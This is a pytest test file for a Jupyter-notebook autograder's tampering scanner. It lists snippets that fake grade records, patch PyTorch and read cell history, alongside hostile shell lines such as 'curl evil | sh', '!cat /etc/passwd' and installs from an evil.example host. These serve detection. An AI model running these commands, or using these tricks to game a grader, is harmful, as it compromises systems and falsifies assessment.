"""The tampering scanner (course_grader.grading.scan): each primitive is flagged in a minimal snippet and
an honest near-miss is not; honest reference solutions are never flagged."""
from __future__ import annotations

import copy
import importlib

import nbformat
import pytest

from course_grader.grading import scan
from course_grader.notebook import grade_id, is_test, read_notebook
from tests.conftest import ROOT, assignments

# primitive -> (a minimal snippet that uses it, an honest snippet that must not be flagged)
CASES = {
    "get_ipython": ("get_ipython().run_cell('x')", "from IPython.display import display\ndisplay(1)"),
    "IPython.core": ("from IPython.core import interactiveshell", "import IPython.display"),
    "InteractiveShell": ("from IPython import InteractiveShell\nInteractiveShell.instance()",
                         "shell_width = 3"),
    "display_pub": ("ip.display_pub.publish = fake", "self.display_publisher = None"),
    "input_transformers_pre": ("ip.input_transformers_pre.append(f)", "input_transformers = []"),
    "input_transformers_post": ("ip.input_transformers_post.append(f)", "transformers_post = []"),
    "ast_transformers": ("ip.ast_transformers.append(t)", "transformers = [t]"),
    "events.register": ("ip.events.register('pre_run_cell', f)", "self.events.append(e)"),
    "sys.displayhook": ("sys.displayhook(1)", "sys.stdout.flush()"),
    "sys.excepthook": ("hook = sys.excepthook", "sys.exit"),
    "In": ("print(In[-1])", "Inputs = [1]\nprint(Inputs)"),
    "Out": ("print(Out)", "Output = 1"),
    "_ih": ("text = _ih[3]", "_idx = 3"),
    "_oh": ("_oh.clear()", "_ohm = 1"),
    "_i": ("source = _i12 + _ii", "for _ in range(3):\n    _in = _"),
    "input_transformer_manager": ("ip.input_transformer_manager.cleanup_transforms.append(f)",
                                  "manager = None"),
    "kernel messaging internals": ("sys.stdout.session.send(sys.stdout.pub_thread, 'display_data', c)",
                                   "self.sessions = []\nsys.stdout.flush()"),
    "ipykernel": ("from ipykernel.kernelapp import IPKernelApp", "kernel = torch.ones(3, 3)"),
    "jupyter_client": ("import jupyter_client", "client = 1"),
    "zmq": ("import zmq", "zeros = torch.zeros(2)"),
    "socket": ("import socket\nsocket.socket(socket.AF_UNIX)", "sockets = 0"),
    "torch private API": ("torch._refs.nn.functional.relu(x)", "print(torch.__version__)\nx._version"),
    "__getattribute__": ("object.__getattribute__(torch, name)", "def __getattr__(self, name):\n    return 1"),
    "__subclasses__": ("().__class__.__base__.__subclasses__()", "cls = x.__class__.__name__"),
    "pickle": ("import pickle\npickle.loads(blob)", "import json\njson.loads('1')"),
    "pdb": ("import pdb\npdb.set_trace()", "pdf = 1"),
    "breakpoint": ("breakpoint()", "break_point = 1"),
    "record forgery": ("display({'application/vnd.course-record+json': fake}, raw=True)",
                       "print({'record': 1})\nfig.savefig('course-results.png')"),
    "class swap": ("out.__class__ = AlwaysEqual", "name = out.__class__.__name__"),
    "IPython magic or shell escape": ("!cat /etc/passwd\nx = 1", "%matplotlib inline\nx = 1"),
    "torch._C": ("ctx = torch._C._DisableTorchDispatch", "torch.cuda.is_available()"),
    "_DisableTorchDispatch": ("with guard._DisableTorchDispatch():\n    pass", "with torch.no_grad():\n    pass"),
    "torch.ops": ("torch.ops.aten.convolution(x, w, None, [1], [0], [1], False, [0], 1)",
                  "torch.nn.functional.conv2d(x, w)"),
    "torch.library": ("lib = torch.library.Library('aten', 'IMPL')", "import torch.linalg"),
    "torch.utils._python_dispatch": ("from torch.utils import _python_dispatch",
                                     "from torch.utils.data import DataLoader"),
    "TorchDispatchMode": ("class M(TorchDispatchMode):\n    pass", "class M(nn.Module):\n    pass"),
    "torch.overrides": ("from torch.overrides import TorchFunctionMode", "from torch.optim import SGD"),
    "__torch_dispatch__": ("class T(torch.Tensor):\n    def __torch_dispatch__(cls, f, t, a, k):\n        pass",
                           "class T:\n    def __call__(self, x):\n        return x"),
    "__torch_function__": ("class T:\n    def __torch_function__(self, f, t, a=(), k=None):\n        pass",
                           "def torch_function(x):\n    return x"),
    "exec": ("exec(code)", "executor = 1"),
    "eval": ("eval('1 + 1')", "model.eval()"),
    "compile": ("compile(src, 'x', 'exec')", "import re\npattern = re.compile('[0-9]+')"),
    "__import__": ("m = __import__('ctypes')", "import math"),
    "importlib": ("import importlib\nimportlib.import_module(name)", "import math\nmath.sqrt(2)"),
    "runpy": ("import runpy", "import statistics"),
    "marshal": ("import marshal", "import json"),
    "types.CodeType": ("import types\ntypes.CodeType(*args)", "import types\nns = types.SimpleNamespace()"),
    "types.FunctionType": ("import types\nf = types.FunctionType(code, {})", "import typing"),
    "getattr with a computed name": ("getattr(torch, 'con' + 'v2d')(x, w)", "getattr(model, 'fc')"),
    "namespace write": ("globals()['pad2d'] = f", "timer = Timer(globals=globals())"),
    "__dict__ write": ("F.__dict__['conv2d'] = f", "self.__dict__.update(kwargs)"),
    "__builtins__": ("__builtins__.print = f", "builtin_names = []"),
    "builtins": ("import builtins", "import math"),
    "ctypes": ("import ctypes", "ctypes_used = False"),
    "cffi": ("from cffi import FFI", "ffi_free = True"),
    "gc": ("import gc\nobjs = gc.get_objects()", "import gc\ngc.collect()"),
    "sys._getframe": ("frame = sys._getframe(1)", "size = sys.getsizeof(x)"),
    "inspect.currentframe": ("import inspect\ninspect.currentframe()", "import inspect\ninspect.signature(f)"),
    "inspect.stack": ("import inspect\ninspect.stack()", "stack = torch.stack([x, x])"),
    "inspect.getouterframes": ("from inspect import getouterframes", "from inspect import isclass"),
    "inspect.trace": ("import inspect\ninspect.trace()", "trace = torch.trace(m)"),
    "sys._current_frames": ("frames = sys._current_frames()", "n = sys.getrecursionlimit()"),
    "traceback.extract_stack": ("import traceback\nstack = traceback.extract_stack()",
                                "import traceback\ntraceback.print_exc()"),
    "traceback.format_stack": ("import traceback\ncode = traceback.format_stack()",
                               "import traceback\ntext = traceback.format_exc()"),
    "traceback.print_stack": ("from traceback import print_stack\nprint_stack()",
                              "from traceback import format_exception"),
    "traceback.walk_stack": ("import traceback\nfor f, n in traceback.walk_stack(None): pass",
                             "import traceback\nlines = traceback.format_exception_only(e)"),
    "traceback.StackSummary": ("import traceback\ns = traceback.StackSummary.extract(gen)",
                               "import traceback\ntraceback.print_exception(e)"),
    "linecache": ("import linecache\ncells = linecache.cache", "cache = {}"),
    "inspect.getsource": ("import inspect\ntext = inspect.getsource(type(model))",
                          "import inspect\nparams = inspect.signature(f).parameters"),
    "inspect.getsourcelines": ("from inspect import getsourcelines\nlines = getsourcelines(f)",
                               "from inspect import isfunction"),
    "inspect.findsource": ("import inspect\nlines = inspect.findsource(f)", "import inspect\ninspect.isclass(f)"),
    "inspect.getframeinfo": ("import inspect\ninfo = inspect.getframeinfo(f)", "import inspect\ninspect.ismodule(m)"),
    "f_back": ("caller = frame.f_back", "back = layers[-1]"),
    "f_globals": ("g = frame.f_globals", "g = globals_count"),
    "f_locals": ("l = frame.f_locals['expected']", "l = f_local"),
    "f_code": ("code = frame.f_code", "code = 1"),
    "__main__": ("import __main__\nhistory = __main__.In", "if __name__ == '__main__':\n    main()"),
    "__self__": ("run = print.__self__.exec", "self.scale = 2"),
    "tb_frame": ("f = e.__traceback__.tb_frame", "print(e)"),
    "gi_frame": ("f = gen.gi_frame", "g = next(gen)"),
    "__code__": ("f.__code__ = g.__code__", "name = f.__name__"),
    "__globals__": ("f.__globals__['x'] = 1", "doc = f.__doc__"),
    "sys.modules write": ("sys.modules['course_utils'] = fake", "loaded = 'torch' in sys.modules"),
    "sys.settrace": ("sys.settrace(tracer)", "sys.setrecursionlimit(2000)"),
    "sys.setprofile": ("sys.setprofile(p)", "sys.getrecursionlimit()"),
    "threading.settrace": ("import threading\nthreading.settrace(t)", "import threading\nthreading.Lock()"),
    "sys.addaudithook": ("sys.addaudithook(h)", "sys.getdefaultencoding()"),
    "os.system": ("os.system('ls')", "os.path.join('a', 'b')"),
    "os.popen": ("os.popen('ls')", "os.cpu_count()"),
    "os.fork": ("pid = os.fork()", "fork = 2"),
    "os.forkpty": ("os.forkpty()", "os.getcwd()"),
    "os.exec": ("os.execv('/bin/sh', ['sh'])", "os.environ.get('HOME')"),
    "os.kill": ("os.kill(1, 9)", "skill = 1"),
    "os.killpg": ("os.killpg(1, 9)", "os.getpid()"),
    "subprocess": ("import subprocess\nsubprocess.run(['ls'])", "process = 1"),
    "multiprocessing": ("from multiprocessing import Process", "from concurrent import futures"),
    "torch.multiprocessing": ("import torch.multiprocessing as mp",
                              "loader = DataLoader(ds, batch_size=8, num_workers=0)"),
    "pty": ("import pty", "empty = torch.empty(3)"),
    "asyncio.create_subprocess_exec": ("import asyncio\nasyncio.create_subprocess_exec('ls')",
                                       "import asyncio\nasyncio.sleep(0)"),
    "asyncio.create_subprocess_shell": ("import asyncio\nasyncio.create_subprocess_shell('ls')",
                                        "import asyncio\nasyncio.run(main())"),
    "signal": ("import signal\nsignal.signal(signal.SIGALRM, h)", "signal = x * 2\nprint(signal.shape)"),
    "library patch": ("torch.nn.functional.conv2d = my_conv", "torch.backends.cudnn.deterministic = True\n"
                      "self.conv = nn.Conv2d(1, 8, 3)"),
    "library name rebound": ("torch = FakeTorch()", "import torch\nimport torch.nn.functional as F\n"
                             "def conv(x, w):\n    F, C, KH, KW = w.shape\n    return F"),
    "builtin rebound": ("def exec(code, namespace=None):\n    return None",
                        "def run(code):\n    exec = 3\n    return exec\nmodel.exec = 1"),
    "grader file path": ("open('/proc/self/mountinfo').read()", "print('the source of the error')"),
    "course_grader": ("from course_grader import kernel", "from course_utils import plots"),
    "data set file path": ("p = 'data/MNIST/raw/t10k-labels-idx1-ubyte'",
                           "fig = show_images(x, title='MNIST: the first 16 digits')"),
    "reads a data set file": ("raw = open(root + '/MNIST/raw/t10k', 'rb').read()",
                              "with open('results.txt', 'w') as f:\n    f.write('MNIST done')"),
    "loads the data set inside a function": (
        "class Net(nn.Module):\n    def forward(self, x):\n        imgs, labels = data.mnist_tensors(train=False)\n"
        "        return x",
        "images, labels = data.mnist_tensors(train=False, limit=256)"),
    "looks inputs up by content": ("class Net(nn.Module):\n    def forward(self, x):\n"
                                   "        return TABLE[x.numpy().tobytes()]",
                                   "key = x.numpy().tobytes()\nclass Net(nn.Module):\n    def forward(self, x):\n"
                                   "        return self.fc(x)"),
    "cannot be parsed": ("x = " + "-" * 50_000 + "1", "def f():\n    pass"),   # the parser gives up
    "too large to scan": ("x = 1\n" * 40_000, "x = 1\n" * 1000),
}


def primitives(source: str) -> set:
    return {f.primitive for f in scan.scan_source(source)}


def test_every_primitive_has_a_case():
    assert set(CASES) == set(scan.PRIMITIVES)
    assert all(kind in ("name", "object", "attr", "module", "rule") and why
               for kind, why in scan.PRIMITIVES.values())


@pytest.mark.parametrize("primitive", sorted(CASES))
def test_a_primitive_is_flagged(primitive):
    assert primitive in primitives(CASES[primitive][0])


@pytest.mark.parametrize("primitive", sorted(CASES))
def test_an_honest_near_miss_is_not_flagged(primitive):
    assert primitives(CASES[primitive][1]) == set()


def test_findings_give_the_line_and_why():
    [finding] = scan.scan_source("x = 1\n\ny = eval('x')\n")
    assert (finding.line, finding.primitive) == (3, "eval")
    assert finding.why == scan.PRIMITIVES["eval"][1]


def test_aliases_are_followed():
    assert "torch._C" in primitives("import torch as t\nt._C._set_grad_enabled(True)")
    assert "torch._C" in primitives("from torch import _C as c")
    assert "torch._C" in primitives("c = getattr(torch, '_C')")
    assert "torch._C" in primitives("t = torch\nt._C")
    assert "ctypes" in primitives("import sys\nc = sys.modules['ctypes']")
    assert "library patch" in primitives("setattr(F, 'conv2d', f)")
    assert "library patch" in primitives("import numpy as xp\nxp.sum = f")
    assert "library patch" in primitives("torch.Tensor.__eq__ = f")
    for target in ("types.ModuleType", "json.loads", "zlib.decompress", "base64.b64decode"):
        assert "library patch" in primitives(f"import {target.split('.')[0]}\n{target} = f"), target
    assert "namespace write" in primitives("g = globals()\ng.update(pad2d=f)")
    assert "sys.modules write" in primitives("import sys as s\ndel s.modules['torch']")
    assert "torch._C" in primitives("vars(torch)['_C']")
    assert "torch._C" in primitives("torch.__dict__['_C']")
    assert "getattr with a computed name" in primitives("torch.__dict__['_' + 'C']")
    assert "getattr with a computed name" in primitives("sys.modules[name]")
    assert "getattr with a computed name" in primitives("globals()[name]")
    assert "__torch_function__" in primitives("class T(torch.Tensor):\n    __torch_function__ = classmethod(f)")
    assert primitives("d = {}\nd[name] = 1\nx = d[name]") == set()
    assert "torch._C" in primitives("d = torch.__dict__\nd['_C']")
    assert "getattr with a computed name" in primitives("d = torch.__dict__\nd[k]")
    assert "getattr with a computed name" in primitives("g = getattr\ng(torch, k)")
    assert "getattr with a computed name" in primitives("import operator\noperator.attrgetter('_C')(torch)")
    assert "pickle" in primitives("torch.load(path, weights_only=False)")
    assert primitives("torch.load(path, weights_only=True)") == set()
    assert "library name rebound" in primitives("import numpy as torch")
    assert "library name rebound" in primitives("def F(x):\n    return x")
    assert "builtin rebound" in primitives("exec = print") and "builtin rebound" in primitives("import os as exec")
    assert "builtin rebound" in primitives("__import__ = None") and primitives("def eval(model):\n    return 1") == set()
    assert primitives("from torch.nn import functional as F\nfrom torch import nn") == set()
    assert "grader file path" in primitives("os.listdir('/proc')\nx = '/r/.course_cache/a'")
    assert primitives("x = '/process'") == set()
    assert "record forgery" in primitives("from IPython.display import publish_display_data as p\np(d)")
    assert "record forgery" in primitives("IPython.display.publish_display_data(d)")
    assert "record forgery" in primitives("display(d, raw=True)")
    assert primitives("parse(text, raw=True)\ndisplay(fig)") == set()
    # the data root's rule lives in course_utils.datafiles too (the grader reads it without torch)
    assert "data set file path" in primitives("from course_utils.datafiles import data_root\nr = data_root()")
    assert "data set file path" in primitives("import course_utils.datafiles as p\nr = p.data_root()")
    assert "data set file path" in primitives("from course_utils import datafiles\nv = datafiles.DATA_DIR_ENV_VAR")


def test_names_the_cell_binds_itself_are_not_the_builtins():
    assert primitives("def f(In):\n    return In + 1") == set()
    assert primitives("def eval(model):\n    return model\neval(m)") == set()
    assert primitives("Out = 3\nprint(Out)") == set()
    assert "exec" in primitives("e = exec")


def test_a_name_bound_by_an_import_is_not_the_builtin():
    assert primitives("from re import compile\ncompile('x')") == set()
    assert primitives("from ast import literal_eval\nliteral_eval('1')") == set()


def test_magics():
    found = scan.scan_source("x = 1\n%run other.py\n!cat /etc/passwd\n")
    assert [(f.line, f.primitive) for f in found] == [(2, "IPython magic or shell escape"),
                                                       (3, "IPython magic or shell escape")]
    assert primitives("%%bash\nls\n") == {"IPython magic or shell escape"}
    assert primitives("%matplotlib inline\nget_ipython()") == {"get_ipython"}


@pytest.mark.parametrize("cell", [
    "!pip install -q torchinfo\nfrom torchinfo import summary",
    "%pip install torchinfo==1.8.0 seaborn\nimport seaborn as sns",
    "!pip install --upgrade tqdm\n!pip list",
    "!nvidia-smi",
    "%load_ext autoreload\n%autoreload 2",
    "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'",
    "%%time\ndef f(x):\n    return x + 1",
    "%%timeit -n 3 -r 2\nf(1)",
    "%%capture installed\n!pip install torchinfo",
    "x = torch.randn(4, 8, 128, 128)\n%timeit -n 10 maxpool2d(x, 2)\n%time y = f(x)",
])
def test_what_students_type_in_colab_is_not_a_review_item(cell):
    """Installing a package by name, timing a cell or a line, autoreload, nvidia-smi: nothing the
    scanner cannot read (the sandbox has no network: nothing is installed)."""
    assert scan.scan_source(cell) == []


def test_timed_code_is_scanned_and_other_shell_commands_flagged():
    assert primitives("%%time\nimport ctypes\nctypes.string_at(0)") == {"ctypes"}
    assert [(f.line, f.primitive) for f in scan.scan_source("x = 1\n%time y = get_ipython()")] == \
        [(2, "get_ipython")]
    assert [(f.line, f.primitive) for f in scan.scan_source("%%capture\n!cat /etc/passwd")] == \
        [(2, "IPython magic or shell escape")]
    for cell in ("!pip install ./evil.whl", "!pip install -r requirements.txt", "%pip install -e .",
                 "!pip install git+https://example.com/x.git", "!wget https://example.com/x.py",
                 "%%writefile helper.py\nx = 1", "%config IPCompleter.greedy = True"):
        assert primitives(cell) == {"IPython magic or shell escape"}, cell


def test_a_name_the_cell_binds_is_not_the_graders_helper():
    """The hidden tests import ``record`` from course_grader.kernel; a student's own ``record``
    (a list, a parameter) is not the grader's helper, one the cell does not bind is."""
    aliases = dict(scan.DEFAULT_ALIASES, record="course_grader.kernel.record")
    assert scan.scan_source("record = []\nfor i in range(3):\n    record.append(i)", aliases=aliases) == []
    assert scan.scan_source("def log(record):\n    record.append(1)", aliases=aliases) == []
    assert {f.primitive for f in scan.scan_source("record('x', 1)", aliases=aliases)} == {"course_grader"}


def test_a_plain_syntax_error_is_not_a_review_item():
    """The kernel refuses the cell as the scanner does: nothing in it runs, its tests fail."""
    assert primitives("def f(:\n    pass") == set()
    assert primitives("import ctypes\nctypes.string_at(0) +") == set()


def test_unparseable_source_is_an_item_not_a_crash():
    assert primitives("x = (" * 300 + ")" * 300) <= {"cannot be parsed", "too large to scan"}
    assert primitives("x = 1\x00") <= {"cannot be parsed"}
    assert primitives("[" * 100 + "]" * 100) in (set(), {"too large to scan"}, {"cannot be parsed"})


# ---------------------------------------------------------------------------- notebooks


def _cell(source: str, **nbgrader) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(source)
    if nbgrader:
        cell.metadata["nbgrader"] = {"schema_version": 3, "locked": False, "points": 0,
                                     "solution": False, "grade": False, **nbgrader}
    return cell


def test_scan_notebook_skips_test_cells_and_follows_setup_imports():
    nb = nbformat.v4.new_notebook()
    nb.cells = [_cell("import torch.nn.functional as fn\nimport sys"),
                _cell("fn.conv2d = f", grade_id="pad2d", solution=True),
                _cell("x = sys._getframe()", grade_id="test_pad2d", grade=True, points=2, locked=True),
                nbformat.v4.new_markdown_cell("exec('x')"),
                _cell("\n\nexec(s)")]
    items = scan.scan_notebook(nb)
    assert [i.to_dict() for i in items] == [
        {"cell": 1, "grade_id": "pad2d", "line": 1, "primitive": "library patch",
         "why": scan.PRIMITIVES["library patch"][1]},
        {"cell": 4, "grade_id": "", "line": 3, "primitive": "exec", "why": scan.PRIMITIVES["exec"][1]}]
    skip = lambda c: is_test(c) or grade_id(c) == "pad2d"      # noqa: E731
    assert [i.cell for i in scan.scan_notebook(nb, skip_cell=skip)] == [4]
    assert [i.cell for i in scan.scan_notebook(nb, skip_cell=lambda c: False)] == [1, 2, 4]


def test_a_notebook_has_a_scanning_budget(monkeypatch):
    monkeypatch.setattr(scan, "MAX_NOTEBOOK_SCAN_CHARS", 100)
    nb = nbformat.v4.new_notebook()
    nb.cells = [_cell("x = 1\n" * 10), _cell("y = 2\n" * 10), _cell("exec(s)")]
    assert [(i.cell, i.primitive) for i in scan.scan_notebook(nb)] == [(1, "too large to scan"),
                                                                      (2, "exec")]


def test_instructor_cells_skips_only_unchanged_test_cells():
    source = nbformat.v4.new_notebook()
    source.cells = [_cell("assert f(1) == 2", grade_id="test_f", grade=True, points=1, locked=True)]
    sub = copy.deepcopy(source)
    sub.cells.append(_cell("In[0]", grade_id="test_mine", grade=True, points=1, locked=True))
    sub.cells.append(_cell("assert f(1) == 2\nexec('1')", grade_id="test_f", grade=True, points=1))
    assert scan.scan_notebook(sub) == []                        # by default: is_test
    items = scan.scan_notebook(sub, skip_cell=scan.instructor_cells(source))
    assert [(i.cell, i.primitive) for i in items] == [(1, "In"), (2, "exec")]


def _honest_notebooks():
    for assignment in assignments():
        nb = read_notebook(ROOT / "source" / assignment / f"{assignment}.ipynb")
        yield assignment, "reference", nb
        variants = importlib.import_module(f"tests.variants.{assignment}").VARIANTS
        for v in variants:
            if v.correct:
                alt = copy.deepcopy(nb)
                for cell in alt.cells:
                    if grade_id(cell) in v.replace:
                        cell.source = v.replace[grade_id(cell)]
                yield assignment, v.name, alt


def test_honest_reference_solutions_and_correct_variants_are_never_flagged():
    scanned, flagged = 0, []
    for assignment, name, nb in _honest_notebooks():
        scanned += sum(1 for c in nb.cells if c.cell_type == "code" and not is_test(c))
        flagged += [(assignment, name, i.to_dict()) for i in scan.scan_notebook(nb)]
    assert scanned > 50
    assert flagged == []


def test_release_notebooks_are_never_flagged():
    for assignment in assignments():
        nb = read_notebook(ROOT / "release" / assignment / f"{assignment}.ipynb")
        assert scan.scan_notebook(nb) == [], assignment


def test_only_the_unchanged_release_setup_cell_may_pip_install():
    from course_grader.authoring.release import SETUP_TEMPLATE

    setup = SETUP_TEMPLATE.format(install_url="git+https://github.com/example-org/cnn-course-student@main")
    assert scan.is_release_setup(setup)
    assert scan.scan_source(setup) == []
    changed = setup.replace("--quiet", "--quiet; curl evil | sh")
    assert not scan.is_release_setup(changed)
    assert "subprocess" in primitives(changed)
    other = SETUP_TEMPLATE.format(install_url="https://evil.example/x.tar.gz")
    assert "subprocess" in primitives(other)
    assert "subprocess" in primitives(setup + "subprocess.run(['sh'])\n")
    # a student's lines added to the setup cell are scanned, the setup's own pip install is not an item
    assert scan.scan_source("# run me first\n%matplotlib inline\n" + setup + "\nx = 1\n") == []
    assert [(f.line, f.primitive) for f in scan.scan_source("import ctypes\n" + setup)] == [(1, "ctypes")]


def test_the_setup_cell_of_an_earlier_release_is_allowed_too():
    """A student may hand in a notebook made from an older release: its unchanged setup cell is the
    course's own."""
    url = "git+https://github.com/example-org/cnn-course-student@main"
    assert len(scan.SETUP_TEMPLATES) >= 2
    for template in scan.SETUP_TEMPLATES:
        assert scan.scan_source(template.format(install_url=url)) == []
        assert "subprocess" in primitives(template.format(install_url=url) + "subprocess.run(['sh'])\n")


@pytest.mark.parametrize("attr", sorted(k for k, (kind, _) in scan.PRIMITIVES.items() if kind == "attr"))
def test_attribute_primitives_are_found_however_the_attribute_is_reached(attr):
    """x.attr, getattr/setattr/delattr with the name as a literal, vars(x)[...] and x.__dict__[...]:
    the same primitive (a constant name is no computed name, and was once no finding at all)."""
    for source in (f"v = getattr(obj, {attr!r})", f"setattr(obj, {attr!r}, v)", f"delattr(obj, {attr!r})",
                   f"v = vars(obj)[{attr!r}]", f"v = obj.__dict__[{attr!r}]"):
        assert attr in primitives(source), source


def test_literal_names_of_ordinary_attributes_are_not_findings():
    assert primitives('w = getattr(model, "weight")\nsetattr(model, "scale", 2.0)') == set()
    # the activations assignment's own subject: a student may look at a layer's hooks
    assert primitives("assert not layer._forward_hooks\nlayer._forward_hooks.clear()") == set()
    assert primitives('d = {}\nd["f_back"] = 1\nv = d["display_pub"]') == set()


#: primitives reached indirectly: names read out of namespaces, patches through a dunder or operator
INDIRECT = [
    ('history = globals()["In"]', "In"),
    ('history = globals().get("_ih")', "_ih"),
    ('run = vars()["exec"]', "exec"),
    ('code = locals()["_i3"]', "_i"),
    ('native = sys.modules.get("ctypes")', "ctypes"),
    ('g = sys.modules.get("gc")', "gc"),
    ('module = sys.modules.get(name)', "getattr with a computed name"),
    ('history = sys.modules["__main__"].In', "__main__"),
    ('type.__setattr__(torch, "conv2d", f)', "library patch"),
    ('torch.__setattr__("conv2d", f)', "library patch"),
    ('type.__delattr__(F, "relu")', "library patch"),
    ('shell.__setattr__("display_pub", publisher)', "display_pub"),
    ('object.__setattr__(layer, name, value)', "getattr with a computed name"),
    ('import operator\noperator.setitem(vars(torch), "conv2d", f)', "namespace write"),
    ('import operator\noperator.setitem(sys.modules, "torch", fake)', "sys.modules write"),
]


@pytest.mark.parametrize("source, primitive", INDIRECT)
def test_primitives_reached_indirectly_are_found(source, primitive):
    assert primitive in primitives(source), source


def test_ordinary_dictionaries_and_objects_are_not_findings():
    assert primitives('d = {"In": 1}\nx = d.get("In")\ny = d["exec"]\nn = sys.modules.get("numpy")') == set()
    assert primitives('object.__setattr__(point, "x", 1)\nimport operator\noperator.setitem(d, "k", 1)') == set()
